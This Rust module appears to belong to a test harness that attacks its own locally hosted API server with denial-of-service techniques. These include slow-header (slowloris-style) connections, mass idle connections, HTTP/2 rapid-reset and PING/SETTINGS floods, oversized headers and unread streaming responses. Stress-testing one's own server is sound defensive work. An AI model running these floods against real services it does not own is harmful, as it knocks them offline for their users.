//! Attacks with connections, headers and frames.

use std::time::Duration;

use bytes::Bytes;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    time,
};

use crate::{
    apps::ECHO,
    attacker::Attacker,
    http2::{self, END_HEADERS, END_STREAM, HEADERS, PING, Post, RST_STREAM, SETTINGS, frame},
};

/// Opens connections one after the other. `drip` is sent every half second after `beginning`.
fn open(attacker: &Attacker, count: usize, beginning: &'static [u8], drip: &'static [u8]) {
    for _ in 0..count {
        let attacker = attacker.clone();
        attacker.clone().spawn(async move {
            match attacker.connect().await {
                Ok(stream) => drip_on(&attacker, stream, beginning, drip).await,
                Err(_) => attacker.outcomes.record_end("closed"),
            }
        });
    }
}

async fn drip_on(attacker: &Attacker, stream: TcpStream, beginning: &[u8], drip: &[u8]) {
    let (mut from, mut to) = stream.into_split();
    let writing = async {
        let mut next = beginning;
        while to.write_all(next).await.is_ok() {
            time::sleep(Duration::from_millis(500)).await;
            next = drip;
        }
    };
    let mut answer = Vec::new();
    tokio::select! {
        () = writing => {}
        _ = from.read_to_end(&mut answer) => {}
    }
    attacker.outcomes.record_end("closed");
}

pub async fn slow_heads(attacker: Attacker) {
    open(&attacker, 400, b"GET /openapi/v1/_health HTTP/1.1\r\nhost: 127.0.0.1\r\n", b"x-slow: xxxxxxxxxxxxxxxx\r\n");
}

pub async fn idle(attacker: Attacker) {
    open(&attacker, 2_000, b"", b"");
}

pub async fn rapid_resets(attacker: Attacker) {
    let mut frames = Vec::new();
    for number in 0..500 {
        let stream = 2 * number + 1;
        frames.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, &http2::get_health()));
        frames.extend(frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]));
    }
    for _ in 0..8 {
        let (attacker, frames) = (attacker.clone(), frames.clone());
        attacker.clone().spawn(async move {
            loop {
                http2::flood(&attacker, frames.clone()).await;
                time::sleep(Duration::from_millis(20)).await;
            }
        });
    }
}

pub async fn pings_and_settings(attacker: Attacker) {
    let frames = [frame(PING, 0, 0, &[0; 8]), frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 1])].concat().repeat(500);
    for _ in 0..8 {
        let (attacker, frames) = (attacker.clone(), frames.clone());
        attacker.clone().spawn(async move {
            loop {
                http2::flood(&attacker, frames.clone()).await;
                time::sleep(Duration::from_millis(100)).await;
            }
        });
    }
}

pub async fn large_headers(attacker: Attacker) {
    let post = Post::unfinished("/openapi/v1/oauth/device/code", Bytes::new());
    let post = (0..30).fold(post, |post, _| post.with("x-large", "y".repeat(1_000)));
    for _ in 0..60 {
        http2::open_streams(&attacker, attacker.address, 50, &post).await;
    }
}

/// Lets runs and documents answer, and reads nothing.
pub async fn unread_answers(attacker: Attacker) {
    let query = "word ".repeat(20_000);
    let body = serde_json::json!({"inputs": {}, "query": query, "response_mode": "streaming"}).to_string();
    let path = attacker.account.run_path(ECHO);
    let run = Post { reads: false, ..Post::complete(&path, "application/json", Bytes::from(body)) };
    let run = run.with("authorization", format!("Bearer {}", attacker.account.token));
    let other = Post { reads: false, ..Post::complete("/openapi/v1/nothing", "application/json", Bytes::new()) };
    for _ in 0..20 {
        http2::open_streams(&attacker, attacker.address, 20, &run).await;
        http2::open_streams(&attacker, attacker.address, 100, &other).await;
    }
}
